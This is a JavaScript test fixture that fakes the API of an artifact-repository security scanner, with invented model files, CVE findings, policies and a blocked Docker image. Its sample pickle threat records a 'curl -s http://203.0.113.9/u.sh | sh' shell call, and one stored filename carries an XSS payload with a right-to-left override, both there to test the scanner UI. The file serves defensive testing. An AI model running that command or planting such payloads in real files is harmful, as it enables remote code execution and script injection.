/* Invented data in the shapes of docs/ui-api.md. */
import { createHash } from "node:crypto";

const now = Date.now();
const MINUTE = 60_000;
const none = { critical: 0, high: 0, medium: 0, low: 0, info: 0 };
const done = (verdict, counts = {}) => ({ state: "done", verdict, finished_ms: now - 10 * MINUTE, ...none, ...counts });

const threat = { code: "MDL-PKL-001", kind: "model_threat", severity: "critical", title: "loading this file would run a shell command", where: { member: "", offset: 0x2d9a1 }, call: "posix.system('curl -s http://203.0.113.9/u.sh | sh')", advice: "it then gives back a classifier that works, so nobody would notice" };
const vulnerability = (severity, advisory, alias, title, component, version, fixed, cvss) => ({ code: "VULN", kind: "vulnerability", severity, title, component, version, fixed, cvss, advisory, aliases: [alias], where: { member: "requirements.txt", layer: 1 } });
const vulnerabilities = [
  vulnerability("critical", "PYSEC-2022-288", "CVE-2022-21797", "Code execution through the pre_dispatch flag of Parallel", "joblib", "1.0.1", "1.2.0", 9.8),
  vulnerability("high", "PYSEC-2025-49", "CVE-2025-47273", "Path traversal when downloading a package", "setuptools", "57.5.0", "78.1.1", 8.8),
  vulnerability("high", "PYSEC-2026-1943", "CVE-2024-47874", "Memory exhaustion by multipart form data", "starlette", "0.13.6", "0.40.0", 8.7),
  vulnerability("medium", "PYSEC-2024-110", "CVE-2024-5206", "Leak of training data through TfidfVectorizer", "scikit-learn", "0.24.0", "1.5.0", 5.3),
  vulnerability("low", "PYSEC-2099-1", "CVE-2099-0001", "Something without a fix", "uvicorn", "0.13.4", null, 3.1),
];
const components = ["joblib 1.0.1", "setuptools 57.5.0", "starlette 0.13.6", "scikit-learn 0.24.0", "uvicorn 0.13.4", "numpy 1.19.5", "scipy 1.6.0"].map((text) => ({ eco: "pypi", name: text.split(" ")[0], version: text.split(" ")[1], path: "usr/lib/python3/dist-packages", layer: 1 }));

export function createFixture({ empty }) {
  const repositories = new Map(empty ? [] : [["ml-models", "generic"], ["docker-local", "docker"]]);
  const items = new Map();
  const policies = empty ? [] : [{ name: "production-gate", type: "security", author: "admin", modified: new Date(now - 90 * MINUTE).toISOString(), rules: [{ name: "high-or-worse", priority: 1, criteria: { min_severity: "High", fix_version_dependant: true }, actions: { block_download: { active: true, unscanned: true } } }] }];
  const watches = empty ? [] : [{ general_data: { name: "everything-served", active: true }, project_resources: { resources: [{ type: "repository", name: "docker-local" }] }, assigned_policies: [{ name: "production-gate", type: "security" }] }];
  const violation = { id: 214, watch: "everything-served", policy: "production-gate", rule: "high-or-worse", severity: "critical", blocks: true, repo: "docker-local", path: "secure-ml-app/v1.0/manifest.json", summary: "joblib 1.0.1 has CVE-2022-21797 (critical), fixed in 1.2.0", advisory: "PYSEC-2022-288", component: "joblib", version: "1.0.1", fixed: "1.2.0", created_ms: now - 12 * MINUTE };

  function put(repo, path, bytes, more) {
    const hash = (name) => createHash(name).update(bytes).digest("hex");
    items.set(`${repo}/${path}`, { repo, path, kind: "file", mime: "application/octet-stream", size_bytes: bytes.length, sha256: hash("sha256"), sha1: hash("sha1"), md5: hash("md5"), created_ms: now - 60 * MINUTE, created_by: "admin", modified_ms: now - 30 * MINUTE, modified_by: "admin", downloads: 14, properties: [], scan: done("not_a_model"), format: null, facts: [], call_lines: [], models: [], tensors: [], tensor_count: null, parameter_count: null, tensor_bytes: null, findings_dropped: null, components: [], findings: [], image: null, blocked: null, violations: [], ...more });
  }
  if (!empty) {
    put("ml-models", "model/1.0.0/model.pkl", Buffer.alloc(187392, 1), { scan: done("clean"), format: "pickle", properties: [{ name: "stage", value: "candidate" }, { name: "build.name", value: "secure-mlops" }], facts: [{ name: "pickle_protocol", value: "4" }, { name: "class", value: "RandomForestClassifier" }, { name: "trees", value: "100, depth 3 to 8" }], call_lines: Array.from({ length: 40 }, (_, at) => `0x${(21 + at * 76).toString(16).padStart(4, "0")} t${at} = numpy.core.multiarray._reconstruct(ndarray, (0,), b'b')`) });
    put("ml-models", "incoming/model.pkl", Buffer.alloc(187000, 2), { scan: done("unsafe", { critical: 1 }), format: "pickle", findings: [threat], call_lines: ["0x0015 f = sklearn.ensemble._forest.RandomForestClassifier()", ...Array.from({ length: 20 }, (_, at) => `0x${(97 + at * 76).toString(16)} t${at} = numpy.core.multiarray._reconstruct(ndarray, (0,), b'b')`), "0x2d9a1 v = posix.system('curl -s http://203.0.113.9/u.sh | sh')", "0x2d9e8 f.__setstate__({'n_estimators': 100})"] });
    put("ml-models", "data/<img src=x onerror=alert(1)>\u202Egpj.pkl", Buffer.alloc(900, 3), { scan: { state: "queued", verdict: null, place: 4, ...none } });
    put("ml-models", "requirements.txt", Buffer.from("joblib==1.0.1\n"), { components, findings: vulnerabilities, scan: done("not_a_model", { critical: 1, high: 2, medium: 1, low: 1 }), format: "requirements" });
    put("docker-local", "secure-ml-app/v1.0/manifest.json", Buffer.from("{}"), { components, findings: vulnerabilities, scan: done("not_a_model", { critical: 1, high: 2, medium: 1, low: 1 }), format: "image", blocked: { message: "policy production-gate, rule high-or-worse: joblib 1.0.1 has CVE-2022-21797 (critical), fixed in 1.2.0, and 2 more", violation: 214 }, violations: [violation], image: { reference: "localhost:8090/docker-local/secure-ml-app:v1.0", digest: "sha256:" + "5b1e0c7d".repeat(8), platform: "linux/amd64", layers: [{ digest: "sha256:" + "1".repeat(64), size_bytes: 27e6, command: "/bin/sh -c #(nop) ADD file:abc in / " }, { digest: "sha256:" + "6".repeat(64), size_bytes: 212e6, command: "RUN /bin/sh -c pip install --no-cache-dir -r requirements.txt # buildkit" }, { digest: "sha256:" + "7".repeat(64), size_bytes: 184e3, command: "COPY app.py model.pkl ./ # buildkit" }] } });
  }

  function tree(repo, path) {
    if (!repo) return [...repositories].map(([name, type]) => ({ name, path: "", kind: "repository", package_type: type }));
    const prefix = path ? `${repo}/${path}/` : `${repo}/`;
    const children = new Map();
    for (const [key, item] of items) {
      if (!key.startsWith(prefix)) continue;
      const [name, ...rest] = key.slice(prefix.length).split("/");
      children.set(name, { name, path: path ? `${path}/${name}` : name, kind: rest.length ? "folder" : "file", ...(rest.length ? {} : { size_bytes: item.size_bytes, modified_ms: item.modified_ms, scan: item.scan }) });
    }
    return [...children.values()].sort((a, b) => a.name.localeCompare(b.name));
  }

  function rows(params) {
    const all = [];
    for (const item of items.values()) for (const one of item.findings) if (one.kind === "vulnerability") all.push({ severity: one.severity, advisory: one.advisory, aliases: one.aliases, summary: one.title, component: one.component, version: one.version, eco: "pypi", fixed: one.fixed, cvss: one.cvss, repo: item.repo, path: item.path, sha256: item.sha256, violation: item.blocked ? 214 : null, blocks: item.blocked !== null });
    const order = ["critical", "high", "medium", "low", "info"];
    const wanted = (params.get("sev") ?? "").split(",").filter(Boolean);
    const q = params.get("q") ?? "";
    const kept = all.filter((row) => (!params.get("repo") || row.repo === params.get("repo")) && (!params.get("fix") || row.fixed) && (!q || JSON.stringify(row).includes(q)));
    const totals = { ...none };
    for (const row of kept) totals[row.severity]++;
    return { rows: kept.filter((row) => wanted.length === 0 || wanted.includes(row.severity)).sort((a, b) => order.indexOf(a.severity) - order.indexOf(b.severity) || b.cvss - a.cvss), next: null, totals, judged: { artifacts: items.size, components: empty ? 0 : 14, advisories: 41, newest: new Date(now - 120 * MINUTE).toISOString(), starter: true } };
  }

  const ok = (body, status = 200) => ({ status, body });
  return (method, path, params, body, headers) => {
    if (path === "/ui/api/status") return ok({ version: "0.1.0", started_ms: now, advisories: { count: 41, ranges: 60, newest: new Date(now - 120 * MINUTE).toISOString(), imported_at: null, starter: true }, scans: { queued: 0, running: 0 }, totals: { repositories: repositories.size, artifacts: items.size, blobs: items.size, bytes: 4e8 }, counts: { threats: empty ? 0 : 1, violations: empty ? 0 : 1 } });
    if (path === "/ui/api/tree") return ok({ children: tree(params.get("repo") ?? "", params.get("path") ?? ""), next: null });
    if (path === "/ui/api/item") {
      const key = `${params.get("repo")}/${params.get("path")}`;
      const item = items.get(key);
      if (item) return ok(item);
      return tree(params.get("repo"), params.get("path")).length ? ok({ repo: params.get("repo"), path: params.get("path"), kind: "folder" }) : { status: 404, message: `nothing is stored at ${key}` };
    }
    if (path === "/ui/api/vulnerabilities") return ok(rows(params));
    if (path === "/ui/api/threats") return ok({ rows: [...items.values()].filter((item) => ["unsafe", "suspicious", "unparseable"].includes(item.scan.verdict)).map((item) => ({ repo: item.repo, path: item.path, sha256: item.sha256, verdict: item.scan.verdict, format: item.format, title: item.findings[0].title, modified_ms: item.modified_ms })), next: null });
    if (path === "/ui/api/violations") return ok({ rows: empty ? [] : [violation], next: null });
    if (path.startsWith("/ui/api/violations/")) return path.endsWith("/214") ? ok({ violation, item: { repo: violation.repo, path: violation.path, sha256: "" }, unblock: ["upgrade joblib to 1.2.0 or later and push the image again", "or change rule high-or-worse of policy production-gate"] }) : { status: 404, message: "no such violation" };
    if (path === "/ui/api/token") return ok({ token: "dev-token" });
    if (path === "/ui/api/password") return { status: 204 };
    if (path === "/xray/api/v2/policies") return method === "POST" ? (policies.push(JSON.parse(body)), ok({ info: "ok" }, 201)) : ok(policies);
    if (path === "/xray/api/v2/watches") return method === "POST" ? (watches.push(JSON.parse(body)), ok({ info: "ok" }, 201)) : ok(watches);
    const put_repo = /^\/artifactory\/api\/repositories\/([^/]+)$/.exec(path);
    if (put_repo && method === "PUT") return repositories.has(put_repo[1]) ? { status: 400, message: `the repository ${put_repo[1]} exists` } : (repositories.set(put_repo[1], JSON.parse(body).packageType), ok("created"));
    const stored = /^\/artifactory\/([^/]+)\/(.+)$/.exec(path);
    if (stored && method === "PUT" && headers["x-checksum-deploy"]) return { status: 404, message: "no blob has this digest here" };
    if (stored && method === "PUT") return put(stored[1], stored[2], body), ok({}, 201);
    if (stored && method === "DELETE") return items.delete(`${stored[1]}/${stored[2]}`), { status: 204 };
    return { status: 404, message: `the fixture has no ${method} ${path}` };
  };
}
